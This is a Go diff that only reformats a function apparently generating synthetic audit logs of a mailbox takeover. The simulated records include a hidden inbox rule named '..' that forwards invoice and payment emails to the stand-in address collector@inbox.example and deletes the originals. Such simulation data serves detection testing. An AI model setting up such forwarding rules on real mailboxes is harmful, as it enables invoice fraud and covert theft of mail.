@@ -38,16 +38,21 @@ func (t *Tenant) mailboxTakeover() {
 	s["authenticationRequirement"] = "singleFactorAuthentication"
 	t.addSignIn("interactiveUser", at, s)
 	params := []any{
-		map[string]any{"Name": "Name", "Value": ".."}, map[string]any{"Name": "ForwardTo", "Value": "collector@inbox.example"},
-		map[string]any{"Name": "SubjectOrBodyContainsWords", "Value": "invoice;payment"}, map[string]any{"Name": "DeleteMessage", "Value": "True"},
+		map[string]any{"Name": "Name", "Value": ".."},
+		map[string]any{"Name": "ForwardTo", "Value": "collector@inbox.example"},
+		map[string]any{"Name": "SubjectOrBodyContainsWords", "Value": "invoice;payment"},
+		map[string]any{"Name": "DeleteMessage", "Value": "True"},
 	}
 	t.addRecord(at.Add(9*time.Minute), victim, operation{"New-InboxRule", "ExchangeAdmin", "Exchange", 1, map[string]any{
-		"Parameters": params, "ObjectId": victim.UPN + "\\..", "ExternalAccess": false, "ClientAppId": "", "AppId": "", "SessionId": s["sessionId"]}}, intruder+":40112")
+		"Parameters": params, "ObjectId": victim.UPN + "\\..", "ExternalAccess": false, "ClientAppId": "", "AppId": "", "SessionId": s["sessionId"],
+	}}, intruder+":40112")
 	for i := range 25 {
 		t.addRecord(at.Add(time.Duration(15+i)*time.Minute), victim, t.bind(victim, 40), intruder)
 	}
-	t.rule(victim, map[string]any{"displayName": "..", "isReadOnly": false, "conditions": map[string]any{"bodyOrSubjectContains": []any{"invoice", "payment"}},
-		"actions": map[string]any{"forwardTo": []any{map[string]any{"emailAddress": map[string]any{"address": "collector@inbox.example", "name": ""}}}, "delete": true, "stopProcessingRules": true}})
+	t.rule(victim, map[string]any{
+		"displayName": "..", "isReadOnly": false, "conditions": map[string]any{"bodyOrSubjectContains": []any{"invoice", "payment"}},
+		"actions": map[string]any{"forwardTo": []any{map[string]any{"emailAddress": map[string]any{"address": "collector@inbox.example", "name": ""}}}, "delete": true, "stopProcessingRules": true},
+	})
 }
 
 func (t *Tenant) foreign(s map[string]any) {
